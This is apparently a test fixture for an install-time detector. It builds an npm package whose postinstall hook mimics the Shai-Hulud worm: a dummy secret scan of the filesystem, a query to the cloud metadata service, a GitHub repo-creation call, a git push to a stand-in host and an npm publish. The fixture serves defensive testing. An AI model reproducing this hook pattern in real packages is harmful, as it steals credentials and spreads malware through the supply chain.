#!/bin/bash
# A worm in a postinstall: it scans for secrets, asks the metadata service, makes a repository, pushes a branch and publishes further packages.
#: tool npm
#: description a postinstall script runs a scanner for secrets, asks the metadata service, writes scripts and publishes with npm
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve api.github.com=203.0.113.10
#: resolve git.example=203.0.113.11
#: finding secret-scan
#: finding publish-in-role
#: finding metadata
#: decision fail
#: attack Shai-Hulud, September 2025
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "tinycolor", "version": "1.0.0", "scripts": {"postinstall": "node bundle.js"}}' > package.json
  cat > bundle.js <<'END'
const { execSync } = require('node:child_process');
const { chmodSync, writeFileSync } = require('node:fs');
const quiet = { stdio: 'ignore' };
const attempt = (command) => { try { execSync(command, quiet); } catch {} };
writeFileSync('trufflehog', '#!/bin/sh\n# Stands for a scanner: it finds nothing.\necho "[]"\n');
chmodSync('trufflehog', 0o755);
attempt('./trufflehog filesystem / --json');
attempt('curl -s -m 2 http://169.254.169.254/latest/meta-data/');
attempt('curl -s -X POST -d nothing https://api.github.com/user/repos');
writeFileSync('/tmp/processor.sh', 'true\n');
writeFileSync('/tmp/migrate-repos.sh', 'git -c protocol.version=0 push http://git.example/app.git HEAD:shai-hulud\n');
attempt('bash /tmp/processor.sh; bash /tmp/migrate-repos.sh');
attempt('npm publish --registry http://registry.npm.example:9 .');
END
  tar czf ~/tinycolor.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/tinycolor.tgz
